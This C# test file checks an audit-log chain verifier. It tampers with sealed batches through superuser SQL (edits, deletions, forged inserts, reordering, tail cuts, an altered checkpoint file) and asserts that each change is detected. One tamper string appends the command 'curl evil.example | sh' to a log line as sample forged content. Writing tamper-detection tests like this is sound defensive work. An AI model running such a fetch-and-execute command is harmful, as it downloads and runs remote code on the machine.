using Audit.Infrastructure.Integrity;
using Npgsql;

namespace Audit.Tests.Infrastructure.Integrity;

public sealed class ChainVerifierTests
{
    [Fact]
    public async Task Sealed_batches_verify_against_their_signed_checkpoint()
    {
        await using var trail = await IntegrityTrail.CreateAsync();
        var ids = new[] { await trail.IngestAsync(3), await trail.IngestAsync(5), await trail.IngestAsync(1) };
        Assert.Equal(3, await trail.SealAsync());
        var checkpoint = await trail.CheckpointAsync();

        Assert.NotNull(checkpoint);
        Assert.Equal(ids[^1], checkpoint.BatchId);
        Assert.Equal(ids, checkpoint.Batches.Select(b => b.BatchId));
        var result = await trail.VerifyAsync();
        Assert.True(result.Ok, result.Detail);
        Assert.Equal(3, result.CheckedBatches);
        Assert.Equal(9, result.CheckedLines);
        Assert.Null(result.FirstBadBatchId);
    }

    [Fact]
    public async Task Sealing_again_adds_nothing_and_a_later_checkpoint_follows_the_earlier_one()
    {
        await using var trail = await IntegrityTrail.CreateAsync();
        await trail.IngestAsync();
        await trail.SealAsync();
        var first = await trail.CheckpointAsync();
        Assert.Equal(0, await trail.SealAsync());
        Assert.Null(await trail.CheckpointAsync());

        var later = await trail.IngestAsync();
        Assert.Equal(1, await trail.SealAsync());
        var second = await trail.CheckpointAsync();

        Assert.Equal(first!.BatchId, second!.PreviousBatchId);
        Assert.Equal(first.Head, second.PreviousHead);
        Assert.Equal([later], second.Batches.Select(b => b.BatchId));
        Assert.True((await trail.VerifyAsync()).Ok);
    }

    public static TheoryData<string, int, string> Tampers => new()
    {
        // what the administrator does, the batch (1-based, of 4) the verifier must name, the problem
        { "UPDATE raw_lines SET line = line || ' ; curl evil.example | sh' WHERE id = ({2} << 24) + 1", 2, "edited" },
        { "UPDATE raw_lines SET fields = '{\"log\": {\"offset\": 9}}' WHERE id = ({3} << 24)", 3, "edited" },
        { "UPDATE raw_batches SET key_id = gen_random_uuid() WHERE id = {2}", 2, "edited" },
        { "DELETE FROM raw_lines WHERE id >> 24 = {2}; DELETE FROM raw_batches WHERE id = {2}; DELETE FROM integrity_links WHERE batch_id = {2}", 2, "missing" },
        { "DELETE FROM raw_lines WHERE id >> 24 = {3}; DELETE FROM raw_batches WHERE id = {3}", 3, "missing" },
        { "DELETE FROM raw_lines WHERE id = ({2} << 24) + 2", 2, "edited" },
        { """
          INSERT INTO raw_batches SELECT received_on, {gap}, received_at, endpoint, key_id, NULL, NULL, 1, 1, 0, content_hash FROM raw_batches WHERE id = {1};
          INSERT INTO raw_lines SELECT received_on, ({gap} << 24), received_at, host, source, program, shipper_time, time_zone, gen_random_uuid(), 'forged: nothing happened', NULL, NULL FROM raw_lines WHERE id = ({1} << 24)
          """, 0, "inserted" },
        { """
          UPDATE raw_lines SET id = id + (1000000 << 24) WHERE id >> 24 = {2};
          UPDATE raw_lines SET id = id - ({3} << 24) + ({2} << 24) WHERE id >> 24 = {3};
          UPDATE raw_lines SET id = id - ((1000000 + {2}) << 24) + ({3} << 24) WHERE id >> 24 = 1000000 + {2};
          UPDATE raw_batches SET id = -id WHERE id IN ({2}, {3});
          UPDATE raw_batches SET id = CASE id WHEN -{2} THEN {3} ELSE {2} END WHERE id IN (-{2}, -{3});
          UPDATE integrity_links SET batch_id = -batch_id WHERE batch_id IN ({2}, {3});
          UPDATE integrity_links SET batch_id = CASE batch_id WHEN -{2} THEN {3} ELSE {2} END WHERE batch_id IN (-{2}, -{3});
          """, 2, "reordered" },
        { "DELETE FROM raw_lines WHERE id >> 24 >= {3}; DELETE FROM raw_batches WHERE id >= {3}; DELETE FROM integrity_links WHERE batch_id >= {3}", 3, "tail_cut" },
    };

    [Theory]
    [MemberData(nameof(Tampers))]
    public async Task Tampering_as_a_superuser_is_reported_at_the_first_bad_batch(string tamper, int badBatch, string problem)
    {
        await using var trail = await IntegrityTrail.CreateAsync();
        var ids = new List<long> { await trail.IngestAsync(), await trail.IngestAsync() };
        long gap;
        await using (var cmd = trail.Service.CreateCommand("SELECT nextval('raw_batch_id_seq')")) gap = (long)(await cmd.ExecuteScalarAsync())!; // an id that never committed
        ids.Add(await trail.IngestAsync(4));
        ids.Add(await trail.IngestAsync());
        await trail.SealAsync();
        await trail.CheckpointAsync();
        Assert.True((await trail.VerifyAsync()).Ok);

        var sql = tamper.Replace("{gap}", gap.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal);
        for (var i = 0; i < ids.Count; i++) sql = sql.Replace($"{{{i + 1}}}", ids[i].ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal);
        await trail.TamperAsync(sql);

        var result = await trail.VerifyAsync();
        Assert.False(result.Ok);
        Assert.Equal(problem, result.Problem);
        Assert.Equal(badBatch == 0 ? gap : ids[badBatch - 1], result.FirstBadBatchId);
    }

    [Fact]
    public async Task An_edit_after_the_newest_checkpoint_is_caught_by_the_links()
    {
        await using var trail = await IntegrityTrail.CreateAsync();
        await trail.IngestAsync();
        await trail.SealAsync();
        await trail.CheckpointAsync();
        var late = await trail.IngestAsync();
        await trail.SealAsync();

        await trail.TamperAsync($"UPDATE raw_lines SET host = 'elsewhere' WHERE id >> 24 = {late}");

        var result = await trail.VerifyAsync();
        Assert.Equal(("edited", late), (result.Problem, result.FirstBadBatchId));
    }

    [Fact]
    public async Task Days_dropped_by_retention_are_recorded_and_the_chain_verifies_across_them()
    {
        await using var trail = await IntegrityTrail.CreateAsync();
        await trail.IngestAsync();
        await trail.IngestAsync();
        await trail.SealAsync();
        await trail.CheckpointAsync();
        await using var owner = NpgsqlDataSource.Create(trail.Db.OwnerConnectionString);
        var now = DateTimeOffset.UtcNow;
        var retention = new Audit.Infrastructure.Partitions.PartitionMaintenanceJob(owner, new Audit.Infrastructure.Partitions.PartitionManager(owner),
            Microsoft.Extensions.Options.Options.Create(new Audit.Infrastructure.Partitions.PartitionOptions { MinimumRetentionDays = 365 }),
            new Support.FixedTimeProvider(now.AddDays(400)), Microsoft.Extensions.Logging.Abstractions.NullLogger<Audit.Infrastructure.Partitions.PartitionMaintenanceJob>.Instance);
        var tomorrow = DateOnly.FromDateTime(now.UtcDateTime).AddDays(1);
        Assert.NotEmpty(await retention.DropOlderThanAsync("raw_batches", tomorrow, CancellationToken.None));
        Assert.NotEmpty(await retention.DropOlderThanAsync("raw_lines", tomorrow, CancellationToken.None));

        var after = await trail.IngestAsync();
        Assert.Equal(1, await trail.SealAsync());
        await trail.CheckpointAsync();

        var result = await trail.VerifyAsync();
        Assert.True(result.Ok, result.Detail);
        Assert.Equal(1, result.CheckedBatches);
        Assert.Contains("dropped by retention", result.Detail, StringComparison.Ordinal);

        // A batch deleted from the remaining data is still caught.
        await trail.TamperAsync($"DELETE FROM raw_lines WHERE id >> 24 = {after}; DELETE FROM raw_batches WHERE id = {after}");
        Assert.Equal(("missing", after), ((await trail.VerifyAsync()).Problem, (await trail.VerifyAsync()).FirstBadBatchId));
    }

    [Fact]
    public async Task A_checkpoint_file_changed_after_signing_is_refused()
    {
        await using var trail = await IntegrityTrail.CreateAsync();
        var id = await trail.IngestAsync();
        await trail.SealAsync();
        await trail.CheckpointAsync();
        var path = Directory.GetFiles(trail.CheckpointDirectory).Single();
        var text = await File.ReadAllTextAsync(path);
        await File.WriteAllTextAsync(path, text.Replace($"batch {id}\n", $"batch {id + 1}\n", StringComparison.Ordinal));

        var result = await trail.VerifyAsync();
        Assert.Equal("checkpoint", result.Problem);
        Assert.Contains("signature", result.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_batch_still_committing_under_a_lower_id_holds_back_the_sealer()
    {
        await using var trail = await IntegrityTrail.CreateAsync();
        await using var slow = await trail.Service.OpenConnectionAsync();
        await using var tx = await slow.BeginTransactionAsync();
        long held;
        await using (var cmd = new NpgsqlCommand(SealWatermark.NextBatchIdSql, slow, tx)) held = (long)(await cmd.ExecuteScalarAsync())!;
        var later = await trail.IngestAsync();
        Assert.True(later > held);

        Assert.Equal(0, await trail.SealAsync()); // waits for the writer of `held`, gives up, seals nothing
        await tx.RollbackAsync();
        Assert.Equal(1, await trail.SealAsync());
        await trail.CheckpointAsync();
        var result = await trail.VerifyAsync();
        Assert.True(result.Ok, result.Detail);
        Assert.Equal(1, result.CheckedBatches);
    }
}
